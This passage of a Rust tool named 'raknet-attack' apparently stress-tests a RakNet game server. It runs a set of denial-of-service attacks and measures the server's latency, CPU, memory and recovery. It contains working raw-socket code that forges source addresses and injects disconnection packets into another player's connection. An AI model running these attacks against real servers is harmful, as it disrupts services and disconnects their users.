    };
    let ping = encode(&UnconnectedPing {
        only_if_open: false,
        time: now_ms(ctx.epoch),
        client_guid: None,
    });
    forger
        .send(witness_addr, server, &ping)
        .map_err(|e| format!("forging a ping: {e}"))?;
    let mut buf = [0u8; 2048];
    match tokio::time::timeout(Duration::from_secs(1), witness.recv_from(&mut buf)).await {
        Ok(Ok((_, from))) if from == ctx.server && buf[0] == id::UNCONNECTED_PONG => {}
        _ => return Err("a forged ping got no pong: forged datagrams do not arrive".into()),
    }
    let (lost0, injected0) = with_log(log, |l| {
        l.steady_drop_every = SPOOF_DROP_EVERY;
        (l.steady_lost, l.injected_seen)
    });
    let mut rng = Rng(seed());
    let mut blind = 0u32;
    let mut counts = [0u64; 4];
    let every = AckRange {
        start: DatagramSeq::ZERO,
        end: DatagramSeq::MAX,
    };
    let mut inject = vec![ECHO_ID];
    inject.extend_from_slice(&INJECT_SEQ.to_be_bytes());
    paced(SPOOF_RATE, end, u64::MAX, |i| {
        let pkt = match i % 6 {
            0..=3 => {
                if i % 2 == 0 {
                    blind = rng.next() as u32 & 0xff_ffff;
                }
                let seq = blind.wrapping_add(if i % 2 == 0 { 0 } else { 1 << 23 }) & 0xff_ffff;
                let payload = if i % 6 < 2 {
                    vec![id::DISCONNECTION_NOTIFICATION]
                } else {
                    inject.clone()
                };
                counts[(i % 6 / 2) as usize] += 1;
                let f = Frame::new(Reliability::Unreliable, Bytes::from(payload));
                RawConn::datagram_at(seq, &[f])
            }
            4 => {
                counts[2] += 1;
                encode(&Ack {
                    timestamp: None,
                    arrival_rate: None,
                    ranges: vec![every],
                })
            }
            _ => {
                counts[3] += 1;
                encode(&Nak {
                    ranges: vec![every],
                })
            }
        };
        match forger.send(player, server, &pkt) {
            Ok(()) => traffic.sent(pkt.len()),
            Err(_) => traffic.send_errors.set(traffic.send_errors.get() + 1),
        }
    })
    .await;
    // Let the server's answers (if any) reach the player before counting.
    tokio::time::sleep(DRAIN_GRACE).await;
    let (lost, injected) = with_log(log, |l| {
        l.steady_drop_every = 0;
        (l.steady_lost - lost0, l.injected_seen - injected0)
    });
    Ok(format!(
        "forged from the player's {player} (losing 1 in {SPOOF_DROP_EVERY}): {} x 0x15 and \
         {} echo requests, unreliable, in blind pairs S/S+2^23; {} ACKs and {} NAKs of every \
         number. Player's connection lost {lost} times, {injected} injected echoes reached it",
        counts[0], counts[1], counts[2], counts[3]
    ))
}

/// Sending UDP datagrams with any source address (a raw IPv4 socket).
#[cfg(target_os = "linux")]
mod raw {
    use std::io;
    use std::net::SocketAddrV4;
    use std::os::fd::{AsRawFd, OwnedFd};

    use nix::sys::socket::{
        sendto, socket, AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn,
    };

    pub(super) struct Forger(OwnedFd);

    impl Forger {
        pub(super) fn open() -> io::Result<Self> {
            let fd = socket(
                AddressFamily::Inet,
                SockType::Raw,
                SockFlag::SOCK_NONBLOCK,
                SockProtocol::Raw,
            )?;
            Ok(Self(fd))
        }

        /// Send `payload` in a UDP datagram from `from` to `to`. With `IPPROTO_RAW` we write
        /// the IP header; the kernel fills in its checksum, and a UDP checksum of 0 means none.
        pub(super) fn send(
            &self,
            from: SocketAddrV4,
            to: SocketAddrV4,
            payload: &[u8],
        ) -> io::Result<()> {
            let udp_len =
                u16::try_from(8 + payload.len()).map_err(|_| io::ErrorKind::InvalidInput)?;
            let total = udp_len + 20;
            let mut pkt = Vec::with_capacity(usize::from(total));
            pkt.extend_from_slice(&[0x45, 0]);
            pkt.extend_from_slice(&total.to_be_bytes());
            // Identification 0 (the kernel picks one), don't fragment, TTL 64, UDP.
            pkt.extend_from_slice(&[0, 0, 0x40, 0, 64, 17, 0, 0]);
            pkt.extend_from_slice(&from.ip().octets());
            pkt.extend_from_slice(&to.ip().octets());
            pkt.extend_from_slice(&from.port().to_be_bytes());
            pkt.extend_from_slice(&to.port().to_be_bytes());
            pkt.extend_from_slice(&udp_len.to_be_bytes());
            pkt.extend_from_slice(&[0, 0]);
            pkt.extend_from_slice(payload);
            sendto(
                self.0.as_raw_fd(),
                &pkt,
                &SockaddrIn::from(to),
                MsgFlags::empty(),
            )?;
            Ok(())
        }
    }
}

#[cfg(not(target_os = "linux"))]
mod raw {
    use std::io;
    use std::net::SocketAddrV4;

    pub(super) struct Forger;

    impl Forger {
        pub(super) fn open() -> io::Result<Self> {
            Err(io::ErrorKind::Unsupported.into())
        }

        pub(super) fn send(&self, _: SocketAddrV4, _: SocketAddrV4, _: &[u8]) -> io::Result<()> {
            Err(io::ErrorKind::Unsupported.into())
        }
    }
}

// ---------------------------------------------------------------------------------------
// Measurement around each attack

struct Row {
    name: &'static str,
    rate: f64,
    sent_pkts: u64,
    sent_bytes: u64,
    recv_pkts: u64,
    recv_bytes: u64,
    probes: usize,
    connect_ms: Vec<f64>,
    connect_failures: usize,
    echo_ms: Vec<f64>,
    echo_failures: usize,
    recovery: Option<f64>,
    cpu_pct: Option<f64>,
    rss_mb: Option<f64>,
    drops: Option<u64>,
    note: String,
}

fn percentile(sorted: &[f64], p: f64) -> Option<f64> {
    if sorted.is_empty() {
        return None;
    }
    Some(sorted[((sorted.len() - 1) as f64 * p).round() as usize])
}

/// Wait until every probe started before `t1` is done and a probe started at or after `t1`
/// has connected (or [`RECOVERY_LIMIT`] passed); returns the seconds from `t1` until that
/// probe connected.
async fn wait_settled(log: &SharedLog, t1: Instant) -> Option<f64> {
    loop {
        let (pending, recovered) = with_log(log, |l| {
            let pending = l.probes.iter().any(|p| p.started < t1 && !p.done);
            let recovered = l
                .probes
                .iter()
                .filter(|p| p.started >= t1)
                .find_map(|p| p.connect.map(|c| (p.started + c - t1).as_secs_f64()));
            (pending, recovered)
        });
        if !pending && recovered.is_some() {
            return recovered;
        }
        if t1.elapsed() > RECOVERY_LIMIT + PROBE_CONNECT_TIMEOUT + ECHO_TIMEOUT {
            return recovered;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

async fn run_attack(
    ctx: &Rc<Ctx>,
    attack: Attack,
    duration: Duration,
    slow_duration: Duration,
    pid: Option<u32>,
    log: &SharedLog,
) -> Row {
    let traffic = Rc::new(Traffic::default());
    let cpu0 = pid.and_then(cpu_ticks);
    let drops0 = udp_socket(ctx.server.port()).map(|(_, d)| d);
    let rss_max = Rc::new(Cell::new(0u64));
    let t0 = Instant::now();
    let window = match attack {
        Attack::Slowloris | Attack::SlowlorisNoAck | Attack::SlowReader => slow_duration,
        _ => duration,
    };
    let end = t0 + window;
    let sampler = pid.map(|pid| {
        let rss_max = rss_max.clone();
        tokio::task::spawn_local(async move {
            while Instant::now() < end + DRAIN_GRACE {
                rss_max.set(rss_max.get().max(rss_kb(pid).unwrap_or(0)));
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        })
    });
    let note = match attack {
        Attack::Baseline => {
            sleep_until(end.into()).await;
            Ok("no attack".to_string())
        }
        Attack::Ocr2 => ocr2_flood(ctx, end, &traffic).await,
        Attack::Ocr2PlayersIp => ocr2_players_ip(ctx, end, &traffic).await,
        Attack::Ocr1 => ocr1_flood(ctx, end, &traffic, false).await,
        Attack::Ocr1Short => ocr1_flood(ctx, end, &traffic, true).await,
        Attack::Handshake => blind_handshake(ctx, end, &traffic).await,
        Attack::PingOne => ping_flood(ctx, end, &traffic, false).await,
        Attack::PingMany => ping_flood(ctx, end, &traffic, true).await,
        Attack::Slowloris => slowloris(ctx, end, &traffic, true).await,
        Attack::SlowlorisNoAck => slowloris(ctx, end, &traffic, false).await,
        Attack::Nak => nak_attack(ctx, end, &traffic).await,
        Attack::FarAhead => far_ahead(ctx, end, &traffic).await,
        Attack::Repeat09 => repeat_09(ctx, end, &traffic).await,
        Attack::GapHold => gap_hold(ctx, end, &traffic).await,
        Attack::GuidTakeover => guid_takeover(ctx, end, &traffic, log).await,
        Attack::SlotHold => slot_hold(ctx, end, &traffic).await,
        Attack::FrameFlood => frame_flood(ctx, end, &traffic).await,
        Attack::SlowReader => slow_reader(ctx, end, &traffic).await,
        Attack::Spoof => spoof(ctx, end, &traffic, log).await,
    };
    let mut note = note.unwrap_or_else(|e| format!("attack failed: {e}"));
    if traffic.send_errors.get() > 0 {
        note.push_str(&format!("; {} sends failed", traffic.send_errors.get()));
    }
    // Attacks end by `end` (plus the drain grace); the window is measured as it ran.
    sleep_until(end.into()).await;
    let t1 = Instant::now();
    let cpu1 = pid.and_then(cpu_ticks);
    let drops1 = udp_socket(ctx.server.port()).map(|(_, d)| d);
    if let Some(s) = sampler {
        let _ = s.await;
    }
    let secs = (t1 - t0).as_secs_f64();
    let recovery = wait_settled(log, t1).await;
    // Echoes sent just before the window closed are answered or timed out by then.
    sleep_until((t1 + ECHO_TIMEOUT + Duration::from_millis(200)).into()).await;
    release_held();
    let (probes, mut connect_ms, connect_failures, mut echo_ms, echo_failures, by_protocol) =
        with_log(log, |l| {
            let window: Vec<&ProbeRec> = l
                .probes
                .iter()
                .filter(|p| p.started >= t0 && p.started < t1)
                .collect();
            let connect: Vec<f64> = window
                .iter()
                .filter_map(|p| p.connect.map(|c| c.as_secs_f64() * 1e3))
                .collect();
            let failures = window.iter().filter(|p| p.connect.is_none()).count();
            let mut echo: Vec<f64> = window
                .iter()
                .flat_map(|p| p.echo_rtts.iter().map(|d| d.as_secs_f64() * 1e3))
                .collect();
            let mut echo_failures: usize = window.iter().map(|p| p.echo_failures as usize).sum();
            for e in l.echoes.iter().filter(|e| e.sent >= t0 && e.sent < t1) {
                match e.rtt {
                    Some(r) => echo.push(r.as_secs_f64() * 1e3),
                    None => echo_failures += 1,
                }
            }
            let by_protocol = [6u8, 11].map(|v| {
                let of = window.iter().filter(|p| p.protocol == v);
                (
                    v,
                    of.clone().filter(|p| p.connect.is_some()).count(),
                    of.count(),
                )
            });
            (
                window.len(),
                connect,
                failures,
                echo,
                echo_failures,
                by_protocol,
            )
        });
    if connect_failures > 0 {
        let split: Vec<String> = by_protocol
            .iter()
            .map(|(v, ok, all)| format!("protocol {v} {ok}/{all}"))
            .collect();
        note.push_str(&format!("; connected: {}", split.join(", ")));
    }
    connect_ms.sort_by(f64::total_cmp);
    echo_ms.sort_by(f64::total_cmp);
    Row {
        name: attack.name(),
        rate: traffic.rate(),
        sent_pkts: traffic.sent_pkts.get(),
        sent_bytes: traffic.sent_bytes.get(),
        recv_pkts: traffic.recv_pkts.get(),
        recv_bytes: traffic.recv_bytes.get(),
        probes,
        connect_ms,
        connect_failures,
        echo_ms,
        echo_failures,
        recovery,
        cpu_pct: cpu0
            .zip(cpu1)
            .map(|(a, b)| (b.saturating_sub(a)) as f64 / USER_HZ / secs * 100.0),
        rss_mb: pid.map(|_| rss_max.get() as f64 / 1024.0),
        drops: drops0.zip(drops1).map(|(a, b)| b.saturating_sub(a)),
        note,
    }
}

fn opt(v: Option<f64>, decimals: usize) -> String {
    v.map_or("-".into(), |v| format!("{v:.decimals$}"))
}

fn header() -> String {
    format!(
        "{:<16} {:>7} {:>8} {:>9} {:>8} {:>9} {:>6} | {:>15} {:>6} {:>13} {:>6} {:>7} | {:>5} {:>6} {:>6} | note",
        "attack",
        "pkts/s",
        "sent",
        "sent KB",
        "recv",
        "recv KB",
        "ampl",
        "connect p50/max",
        "cfail",
        "echo p50/p99",
        "efail",
        "recover",
        "CPU%",
        "RSS MB",
        "drops",
    )
}

fn format_row(r: &Row) -> String {
    let ampl = if r.sent_bytes > 0 {
        format!("{:.2}", r.recv_bytes as f64 / r.sent_bytes as f64)
    } else {
        "-".into()
    };
    let connect = format!(
        "{}/{} ms",
        opt(percentile(&r.connect_ms, 0.5), 0),
        opt(percentile(&r.connect_ms, 1.0), 0)
    );
    format!(
        "{:<16} {:>7.0} {:>8} {:>9.1} {:>8} {:>9.1} {:>6} | {:>15} {:>6} {:>13} {:>6} {:>7} | {:>5} {:>6} {:>6} | {}",
        r.name,
        r.rate,
        r.sent_pkts,
        r.sent_bytes as f64 / 1024.0,
        r.recv_pkts,
        r.recv_bytes as f64 / 1024.0,
        ampl,
        connect,
        format!("{}/{}", r.connect_failures, r.probes),
        format!(
            "{}/{} ms",
            opt(percentile(&r.echo_ms, 0.5), 1),
            opt(percentile(&r.echo_ms, 0.99), 0)
        ),
        r.echo_failures,
        r.recovery.map_or(">20 s".into(), |s| format!("{s:.1} s")),
        opt(r.cpu_pct, 0),
        opt(r.rss_mb, 0),
        r.drops.map_or("-".into(), |d| d.to_string()),
        r.note
    )
}

/// Wait until the server answers an unconnected ping (it may still be compiling).
async fn wait_for_server(server: SocketAddr, wait: Duration) -> Result<(), String> {
    let sock = UdpSocket::bind("127.0.0.1:0")
        .await
        .map_err(|e| e.to_string())?;
    let ping = encode(&UnconnectedPing {
        only_if_open: false,
        time: 0,
        client_guid: Some(1),
    });
    let deadline = Instant::now() + wait;
    let mut buf = vec![0u8; 2048];
    while Instant::now() < deadline {
        let _ = sock.send_to(&ping, server).await;
        let until = Instant::now() + Duration::from_millis(500);
        while let Ok(Ok((n, from))) =
            tokio::time::timeout_at(until.into(), sock.recv_from(&mut buf)).await
        {
            if from == server && n > 0 && buf[0] == id::UNCONNECTED_PONG {
                return Ok(());
            }
        }
    }
    Err(format!(
        "no server answered pings on {server} within {wait:?}"
    ))
}

async fn run(args: Args) -> Result<(), String> {
    wait_for_server(args.server, args.wait).await?;
    let pid = args
        .server_pid
        .or_else(|| find_server_pid(args.server.port()));
    match pid {
        Some(p) => eprintln!("raknet-attack: server {} is pid {p}", args.server),
        None => eprintln!(
            "raknet-attack: server process not found (pass --server-pid); CPU/RSS not measured"
        ),
    }
    let log: SharedLog = Arc::new(Mutex::new(Log::default()));
    let stop = Arc::new(AtomicBool::new(false));
    // Hard bound on the whole run: every window plus its recovery wait.
    let per_attack = args.duration.max(args.slow_duration)
        + args.cooldown
        + RECOVERY_LIMIT
        + PROBE_CONNECT_TIMEOUT
        + ECHO_TIMEOUT
        + Duration::from_secs(5);
    let hard_end = Instant::now() + per_attack * (args.attacks.len() as u32 + 1);
    let legit = {
        let (log, stop) = (log.clone(), stop.clone());
        let server = args.server;
        std::thread::spawn(move || legit_thread(server, log, stop, hard_end))
    };
    let ready_by = Instant::now() + Duration::from_secs(10);
    while !with_log(&log, |l| l.steady_connected) && Instant::now() < ready_by {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let result = if with_log(&log, |l| l.steady_connected) {
        let ctx = Rc::new(Ctx {
            server: args.server,
            epoch: Instant::now(),
            rate: args.rate,
            ping_rate: args.ping_rate,
            conn_rate: args.conn_rate,
            sources: args.sources,
            slow_connections: args.slow_connections,
        });
        eprintln!("{}", header());
        let mut rows = Vec::new();
        for &attack in &args.attacks {
            if Instant::now() >= hard_end {
                break;
            }
            let row = run_attack(&ctx, attack, args.duration, args.slow_duration, pid, &log).await;
            eprintln!("{}", format_row(&row));
            rows.push(row);
            if attack.leaves_state() && Some(&attack) != args.attacks.last() {
                // Let the server's handshake and idle timeouts clear what the attack left.
                tokio::time::sleep(args.cooldown).await;
            }
        }
        println!();
        println!(
            "raknet-attack against {} ({} s per attack, slowloris {} s; flood {}/s, pings {}/s, \
             per-connection {}/s, {} sources)",
            args.server,
            args.duration.as_secs_f64(),
            args.slow_duration.as_secs_f64(),
            args.rate,
            args.ping_rate,
            args.conn_rate,
            args.sources
        );
        println!("{}", header());
        for r in &rows {
            println!("{}", format_row(r));
        }
        println!(
            "connect: fresh clients started every {} ms during the attack, protocols 6 and 11 \
             alternating (cfail = failed/started, {} s limit); echo: their echoes plus a \
             long-lived client's {} per second (efail = unanswered within {} s); recover = from \
             the attack's end until a fresh client connected; CPU% and RSS (max) of the server \
             process; drops = datagrams the kernel dropped at the server's socket.",
            PROBE_INTERVAL.as_millis(),
            PROBE_CONNECT_TIMEOUT.as_secs(),
            1000 / STEADY_INTERVAL.as_millis(),
            ECHO_TIMEOUT.as_secs()
        );
        Ok(())
    } else {
        Err("the legitimate client could not connect before any attack".into())
    };
    stop.store(true, Ordering::Relaxed);
    let _ = legit.join();
    result
}

fn main() {
    let args = match parse_args() {
        Ok(Some(a)) => a,
        Ok(None) => return,
        Err(e) => {
            eprintln!("raknet-attack: {e}");
            std::process::exit(2);
        }
    };
    let runtime = match tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
    {
        Ok(r) => r,
        Err(e) => {
            eprintln!("raknet-attack: {e}");
            std::process::exit(1);
        }
    };
    let local = tokio::task::LocalSet::new();
    if let Err(e) = local.block_on(&runtime, run(args)) {
        eprintln!("raknet-attack: {e}");
        std::process::exit(1);
    }
}
